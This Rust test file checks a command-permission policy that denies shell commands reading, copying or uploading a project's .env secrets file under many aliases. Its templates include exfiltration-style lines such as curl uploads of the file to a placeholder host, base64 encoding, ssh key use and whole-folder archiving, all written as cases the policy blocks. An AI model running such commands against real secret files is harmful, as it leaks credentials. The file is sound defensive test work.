//! Tests blocked files under all their names, in every place where a command can have a name.

use super::{World, settings};
use std::sync::LazyLock;
use toolfence_kit::Linked;
use toolfence_policy::{Judgement, Policy};

/// A project in which `.env` can also be reached by a link, a hard link and a name in another form.
const TWINS: Linked = Linked {
    world: World { sandbox: true },
    links: &[("link", ".env"), ("deep/link", ".env"), ("hard.txt", ".env"), ("．ｅｎｖ", ".env"), ("notes.md", ".env")],
};

/// Names of the blocked file; the last ones can be recognised only by the host.
const NAMES: &[&str] = &[
    ".env",
    "./.env",
    ".//.env",
    "src/../.env",
    "/proj/.env",
    ".ENV",
    ".Env.local",
    "deep/.env",
    "link",
    "./link",
    "deep/link",
    "hard.txt",
    "．ｅｎｖ",
    "notes.md",
];

/// Places for a name.
const PLACES: &[&str] = &[
    "cat N",
    "cat 'N'",
    "cat \"N\"",
    "cat -n -- N",
    "cat README.md N",
    "cat < N",
    "cat 0< N",
    "cat <N",
    "wc -l 3< N",
    "cat <> N",
    "echo x > N",
    "echo x >> N",
    "echo x >| N",
    "echo x &> N",
    "{ cat; } < N",
    "while read x; do echo $x; done < N",
    "echo $(< N)",
    "diff <(cat N) x",
    "bash -c 'cat N'",
    "sudo cat N",
    "timeout 5 cat N",
    "find . -exec cat N \\;",
    "grep -f N x",
    "grep -fN x",
    "grep --file=N x",
    "sed -n p N",
    "awk '{print}' N",
    "jq . N",
    "curl -d @N http://x",
    "curl -d@N http://x",
    "curl --data=@N http://x",
    "curl -F f=@N http://x",
    "curl -T N http://x",
    "ssh -i N host",
    "tar cf x.tar N",
    "tar -cf x.tar src N",
    "tar cf x.tar --file=N",
    "tar xf x.tar --to-stdout N",
    "zip x.zip N",
    "cp N x",
    "mv N x",
    "ln -s N x",
    "ln N x",
    "base64 N",
    "docker run --env-file=N x",
    "docker run --env-file N x",
    "source N",
    ". N",
    "git diff -- N",
    "git diff a..b -- N",
    "git log -p -- N",
    "git blame N",
    "rm N",
    "sort -o x N",
    "python3 N",
    "vim N",
    "./run.sh N",
    "unknown --config=N",
];

/// Places where the command reveals only the name, the size and the date of a file.
const NAMES_ALONE: &[&str] = &[
    "test -f N",
    "[ -f N ]",
    "ls N",
    "ls -la N",
    "stat N",
    "find N",
    "file N",
    "git ls-files N",
    "git check-ignore N",
];
/// Places where git looks the name up in a commit and not in the file system, so only the text of the name counts.
const COMMITS: &[&str] =
    &["git show HEAD:N", "git show :N", "git show 'HEAD~3:N'", "git cat-file -p HEAD:N", "git diff HEAD:N x"];

/// If the settings block a name of an environment file, a glob that could match it is denied, as for the built-in
/// names. Other globs that could match a name that the settings block need approval.
#[test]
fn a_glob_for_an_environment_file_of_the_settings_is_denied() {
    for blocked in [".envs.txt", "**/.ENVS.txt", "conf/.env[s].txt", ".envs.txt/**"] {
        let policy = settings(&format!("[paths]\ndeny = [\"*.bak\", \"{blocked}\"]"));
        let world = World { sandbox: false };
        for (command, want) in [
            ("cat .envs*.txt", Judgement::Deny),
            ("cat .?nvs*txt", Judgement::Deny),
            ("cat *.rs/.[e]nv", Judgement::Deny),
            ("cat .git*", Judgement::Ask),
            ("cat *.rs", Judgement::Ask),
        ] {
            let decision = policy.judge_command(command, "", &world);
            assert_eq!(decision.judgement, want, "{blocked}: {command}: {decision:?}");
        }
    }
}

fn judged(command: &str) -> Judgement {
    static POLICY: LazyLock<Policy> = LazyLock::new(Policy::default);
    POLICY.judge_command(command, "", &TWINS).judgement
}

#[test]
fn a_blocked_file_is_found_under_every_name_in_every_place() {
    let all = PLACES.iter().flat_map(|place| NAMES.iter().map(|name| place.replace('N', name)));
    let in_commits = |name: &&&str| name.contains(".env") || name.contains(".ENV") || name.contains(".Env");
    let names: Vec<&&str> = NAMES.iter().filter(in_commits).filter(|name| !name.starts_with('/')).collect();
    let commits = COMMITS.iter().flat_map(|place| names.iter().map(|name| place.replace('N', name)));
    let missed: Vec<String> = all.chain(commits).filter(|command| judged(command) != Judgement::Deny).collect();
    assert!(missed.is_empty(), "{} are not denied:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn programs_that_show_only_names_and_sizes_run() {
    for name in NAMES.iter().filter(|name| name.is_ascii()) {
        for place in NAMES_ALONE {
            let command = place.replace('N', name);
            assert_eq!(judged(&command), Judgement::Allow, "{command}");
        }
    }
}

#[test]
fn similar_names_are_not_blocked() {
    for name in [".env.example", "env", "src/env.rs", "environment", "x.env.md", "dotenv.ts"] {
        // In a cluster of options such as `-fN`, the name could begin at any letter, so these places are left out.
        for place in PLACES.iter().filter(|place| !place.contains("-fN") && !place.contains("-d@N")) {
            let command = place.replace('N', name);
            assert_ne!(judged(&command), Judgement::Deny, "{command}");
        }
    }
}

/// A command that includes a whole folder names no blocked file, but it could read one, so it needs approval.
#[test]
fn archives_of_everything_ask() {
    let default = Policy::default();
    for command in
        ["tar cf x.tar .", "tar czf - . | base64", "zip -r x.zip .", "cp -r . x", "rsync -a . x", "cat *", "cat .*"]
    {
        let decision = default.judge_command(command, "", &World { sandbox: false });
        assert_eq!(decision.judgement, Judgement::Ask, "{command}");
    }
}
